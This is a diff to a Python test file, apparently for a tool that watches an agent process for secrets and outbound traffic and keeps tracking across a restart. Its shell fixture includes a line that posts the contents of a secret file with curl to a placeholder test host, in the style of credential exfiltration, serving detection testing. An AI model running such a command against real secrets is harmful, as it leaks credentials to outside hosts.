@@ -4,6 +4,7 @@
 from __future__ import annotations
 
 import contextlib
+import json
 import os
 import re
 import signal
@@ -32,7 +33,7 @@ OUTSIDE = {BARE, "other.test"}
 """Where the command wants to go and no rule leads."""
 
 FINDING = f"""
-give() {{ env "$1=$(cat $LAB/$1)" sleep 2; }}
+give() {{ (export "$1=$(cat $LAB/$1)"; exec sleep 2); }}
 send() {{ curl -s -m 5 -d "q=$(cat $LAB/$1)" http://{BARE}/; }}
 touch $LAB/up
 give FIRST_TOKEN
@@ -122,9 +123,16 @@ def test_what_an_agent_finds_after_it_was_started_again_is_watched(
     assert sum(flow["inspected"] for flow in flows) == 1
 
 
+def found(running: Running) -> set[str]:
+    """Names of secrets that were found by now."""
+    lines = [line for line in running.journal().splitlines(keepends=True) if line.endswith("\n")]
+    events = [json.loads(line) for line in lines]
+    return {event["name"] for event in events if event["kind"] == "secretfound"}
+
+
 def test_what_it_has_found_is_known_to_the_next_one(lab: Lab, tmp_path: Path) -> None:
-    """Secrets from an environment and from a file are nowhere else than in the agent, and in the
-    kernel's tables, which stay. What is found next goes behind them."""
+    """Secrets from an environment are nowhere else than in the agent, and in the kernel's tables,
+    which stay. What is found next goes behind them."""
     tokens = {name: home_made(name) for name in ("FIRST_TOKEN", "LATER_TOKEN")}
     for name, token in tokens.items():
         (lab.directory / name).write_text(token.value)
@@ -132,13 +140,13 @@ def test_what_it_has_found_is_known_to_the_next_one(lab: Lab, tmp_path: Path) ->
     policy.write_text("version: 1\nmode: audit\nallow: home.test\n")
     running = Running(lab, FINDING, policy=policy, reports=tmp_path / "reports")
     wait_until((lab.directory / "up").exists, "the command runs")
-    wait_until(lambda: "FIRST_TOKEN" in running.journal(), "the first one is found")
+    wait_until(lambda: found(running) == {"FIRST_TOKEN"}, "the first one is found")
     agent = running.agent
     os.kill(agent, signal.SIGKILL)
     wait_until(lambda: running.agent != agent, "there is another agent")
     wait_until(lambda: '"gap"' in running.journal(), "it has taken over")
     (lab.directory / "go").touch()
-    wait_until(lambda: "LATER_TOKEN" in running.journal(), "the next one is found")
+    wait_until(lambda: found(running) == set(tokens), "the next one is found")
     (lab.directory / "end").touch()
     done = running.end()
     assert done.code == FINDINGS, done.stderr
